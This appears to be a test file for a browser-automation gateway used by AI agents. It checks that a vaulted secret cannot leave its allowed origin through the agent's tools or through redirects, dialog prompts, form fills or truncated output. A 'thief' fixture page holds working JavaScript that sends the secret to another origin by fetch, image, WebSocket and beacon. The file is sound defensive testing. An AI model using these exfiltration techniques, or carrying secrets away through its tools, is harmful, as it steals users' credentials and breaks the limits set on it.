import { afterAll, beforeAll, expect, it } from 'vitest';
import { start } from '../fixtures/gatewright.js';
import type { Running } from '../fixtures/gatewright.js';
import { promised } from '../fixtures/promised.js';
import { html, startSite } from '../fixtures/site.js';
import type { Handler, Site } from '../fixtures/site.js';

const VALUE = 'zebra-Quartz_91+7';
const HIDDEN = '%7Aebra-Quartz_91%2b7';
const ENCODED = Buffer.from(VALUE).toString('base64');

/** A page of the right origin that sends what it was given to another one, in every way that can be read on the wire. */
const thief = (to: string) =>
  html(`
  <input id="key" aria-label="Key"><button>Look</button><output></output>
  <script>
    const elsewhere = ${JSON.stringify(to)};
    document.querySelector('button').onclick = async () => {
      const v = key.value;
      const ask = (path, init) => fetch(elsewhere + path, { mode: 'no-cors', ...init }).catch(() => 0);
      await Promise.all([
        ask('/query?v=' + encodeURIComponent(v)),
        ask('/' + btoa(v)),
        ask('/body', { method: 'POST', body: 'x'.repeat(300000) + v }),
        ask('/form', { method: 'POST', body: new URLSearchParams({ v }) }),
        ask('/pieces', { method: 'POST', body: JSON.stringify({ v: [...v].map((c) => '\\\\u' + c.charCodeAt(0).toString(16).padStart(4, '0')).join('') }) }),
        new Promise((done) => { const image = new Image(); image.onload = image.onerror = done; image.src = elsewhere + '/image?' + v; }),
        new Promise((done) => { const s = new WebSocket(elsewhere.replace('http', 'ws') + '/socket?' + encodeURIComponent(v)); s.onclose = s.onerror = done; }),
      ]);
      navigator.sendBeacon(elsewhere + '/beacon', v);
      document.querySelector('output').textContent = 'sent';
    };
  </script>`);

promised('secrets-stay', () => {
  let home: Site;
  let other: Site;
  let gatewright: Running;
  beforeAll(async () => {
    other = await startSite({
      '/': html(
        '<input aria-label="Note"><button onclick="asked.value = prompt(1)">Ask</button><output id="asked"></output>',
      ),
      '/arrived': 'arrived',
    });
    const on = (to: string, status: number): Handler => {
      return ({ url = '' }, response) =>
        response.writeHead(status, { location: to + url.replace(/^[^?]*/u, '') }).end();
    };
    home = await startSite({
      '/': thief(other.origin),
      '/on': on(other.url('/arrived'), 302),
      '/on-as-it-was': on(other.url('/arrived'), 307),
      '/home-again': on('/at-home', 307),
      '/at-home': 'at home',
    });
    gatewright = await start({
      args: [
        '--allow-private',
        `${home.host},${other.host}`,
        '--capabilities',
        'read,navigation,action,human,fetch,secrets',
      ],
    });
  });
  afterAll(async () => {
    await gatewright.close();
    await home.close();
    await other.close();
  });
  const seen = () => other.seen.map(({ path, body }) => `${path} ${body}`).join('\n');

  it('is kept under its name, and not under one that is taken', async () => {
    await gatewright.call('browser_navigate', { url: home.url() });
    const args = { name: 'KEY', value: VALUE, scope: [home.origin] };
    expect((await gatewright.call('register_secret', args)).text).toContain('<KEY>');
    expect((await gatewright.call('register_secret', { ...args, value: 'another-one-55' })).code).toBe(
      'vault.name-taken',
    );
    const reserved = await gatewright.call('register_secret', { ...args, name: 'PASSWORD_SHOP' });
    expect(reserved.code).toBe('vault.bad-secret');
    expect(reserved.text).toContain('kept for the vault');
    expect((await gatewright.call('register_secret', { ...args, name: 'PAGE', scope: [home.url('/x')] })).code).toBe(
      'vault.bad-secret',
    );
    expect((await gatewright.call('register_secret', { ...args, name: 'EMPTY', value: '   ' })).code).toBe(
      'vault.bad-secret',
    );
  });

  it.each([
    ['in an address', 'browser_navigate', (to: string) => ({ url: `${to}/?q=${VALUE}` })],
    ['in base64 in an address', 'browser_navigate', (to: string) => ({ url: `${to}/${ENCODED}` })],
    ['half encoded', 'browser_navigate', (to: string) => ({ url: `${to}/?q=${HIDDEN}` })],
    ['in a new tab', 'browser_tabs', (to: string) => ({ action: 'new', url: `${to}/#${VALUE}` })],
    ['in a fetch', 'web_fetch', (to: string) => ({ url: to, method: 'POST', body: `{"v":"${ENCODED}"}` })],
    ['in a header', 'web_fetch', (to: string) => ({ url: to, headers: { 'x-note': VALUE } })],
  ])('the agent cannot carry it away %s', async (_, tool, args) => {
    expect((await gatewright.call(tool, args(other.origin))).code).toBe('policy.secret-leaving');
    expect(seen()).toBe('');
  });

  it.each([
    ['in its address', '/on', (at: string) => ({ url: `${at}?v=${VALUE}` })],
    ['in its address, encoded', '/on', (at: string) => ({ url: `${at}?v=${ENCODED}` })],
    ['in its body', '/on-as-it-was', (at: string) => ({ url: at, method: 'POST', body: VALUE })],
    ['in a header that goes along', '/on', (at: string) => ({ url: at, headers: { 'User-Agent': VALUE } })],
  ])('nor does a redirect of its own site, %s', async (_, path, args) => {
    const reply = await gatewright.call('web_fetch', args(home.url(path)));
    expect(reply.code).toBe('policy.secret-leaving');
    expect(reply.text).toContain('<KEY>');
    expect(seen()).toBe('');
  });

  it('a redirect that takes nothing along is followed, and so is one that stays at home', async () => {
    const plain = await gatewright.call('web_fetch', {
      url: home.url('/on-as-it-was'),
      method: 'POST',
      body: 'a note',
    });
    expect(plain.text).toContain('arrived');
    const staying = await gatewright.call('web_fetch', { url: home.url('/home-again'), method: 'POST', body: VALUE });
    expect(staying.text).toContain('at home');
    other.seen.length = 0;
  });

  it('nor is it what a prompt of any page is answered with', async () => {
    for (const text of [VALUE, ENCODED, `${VALUE} and more`]) {
      const reply = await gatewright.call('set_dialog_policy', { mode: 'accept-prompt-with', text });
      expect(reply.code).toBe('policy.secret-leaving');
      const inline = await gatewright.call('set_dialog_policy', { mode: `accept-prompt-with:${text}` });
      expect(inline.code).toBe('policy.secret-leaving');
    }
    await gatewright.call('set_dialog_policy', { mode: 'accept-prompt-with', text: 'an ordinary answer' });
    await gatewright.call('browser_navigate', { url: other.url() });
    await gatewright.call('browser_click', { role: 'button', name: 'Ask' });
    expect((await gatewright.call('browser_snapshot')).text).toContain('an ordinary answer');
    await gatewright.call('set_dialog_policy', { mode: 'raise' });
    other.seen.length = 0;
  });

  it('nor type it on another page', async () => {
    await gatewright.call('browser_navigate', { url: other.url() });
    for (const value of [VALUE, ENCODED]) {
      expect((await gatewright.call('browser_fill', { name: 'Note', value })).code).toBe('policy.secret-leaving');
    }
  });

  it('nor does a page that was given it, in anything that is not encrypted', async () => {
    await gatewright.call('browser_navigate', { url: home.url() });
    expect((await gatewright.call('browser_fill', { name: 'Key', value: '<KEY>' })).isError).toBe(false);
    await gatewright.call('browser_click', { name: 'Look', role: 'button' });
    await gatewright.call('browser_wait_for', { text: 'sent' });
    expect(seen()).not.toMatch(/zebra|7A?ebra|emVicm|Quartz|query|image|beacon|socket|form|pieces/iu);
    const refused = gatewright.record().filter(({ event }) => event === 'network.refused');
    expect(JSON.stringify(refused)).toContain('secret-leaving');
    expect(JSON.stringify(gatewright.record())).not.toContain('zebra');
  });
});

promised('secrets-unseen', () => {
  it('no half of it is left where a long text is cut', async () => {
    const value = 'mica-Feldspar_20+gneiss/77';
    const filler = (count: number) => 'lorem ipsum dolor '.repeat(1000).slice(0, count);
    const names = Array.from({ length: 26 }, (_, index) => index);
    const site = await startSite({
      '/': html(`<input id="key" aria-label="Key"><button id="go">Show</button><main></main><script>
        document.querySelector('#go').onclick = () => {
          const v = document.querySelector('#key').value;
          const filler = ${JSON.stringify(filler(1200))};
          const main = document.querySelector('main');
          for (const cut of [60, 80, 100, 120, 150, 200, 300, 400, 500, 1000]) for (const at of ${JSON.stringify(names)}) {
            const text = filler.slice(0, cut - at - 1) + ' ' + v + ' tail of the text';
            const button = Object.assign(document.createElement('button'), { textContent: text, title: text });
            const field = Object.assign(document.createElement('input'), { value: text });
            const link = Object.assign(document.createElement('a'), { href: '/' + text.replaceAll(' ', '-'), textContent: 'x' });
            main.append(button, field, link);
          }
          document.title = filler.slice(0, 490) + v;
          console.log(filler.slice(0, 495) + v);
        };
      </script>`),
    });
    const gatewright = await start({
      args: ['--allow-private', site.host, '--capabilities', 'read,navigation,action,human,secrets'],
    });
    try {
      await gatewright.call('browser_navigate', { url: site.url() });
      await gatewright.call('register_secret', { name: 'ROCK', value, scope: [site.origin] });
      await gatewright.call('browser_fill', { name: 'Key', value: '<ROCK>' });
      const said: string[] = [];
      const call = async (tool: string, args: Record<string, unknown>) => {
        const { text, meta } = await gatewright.call(tool, args);
        said.push(JSON.stringify([text, meta]));
        return text;
      };
      await call('browser_click', { selector: '#go' });
      for (const args of [{ mode: 'full', max_tokens: 20000 }, { mode: 'interactive', max_tokens: 3000 }, {}]) {
        await call('browser_snapshot', args);
      }
      await call('browser_read', { max_tokens: 3000 });
      await call('browser_read', { format: 'tree', max_tokens: 20000 });
      await call('browser_find', { query: 'tail of the text', limit: 50 });
      for (const text of ['tail', 'lorem', 'dolor']) await call('browser_text_search', { text, limit: 50 });
      await call('browser_console_read', {});
      await call('browser_tabs', { action: 'list' });
      for (const at of names) await call('browser_inspect', { selector: `main button:nth-of-type(${at + 200})` });
      const everything = said.join('\n');
      expect(everything).toContain('ROCK');
      const pieces = Array.from({ length: value.length - 7 }, (_, index) => value.slice(index, index + 8));
      expect(pieces.filter((piece) => everything.includes(piece))).toEqual([]);
    } finally {
      await gatewright.close();
      await site.close();
    }
  });
});
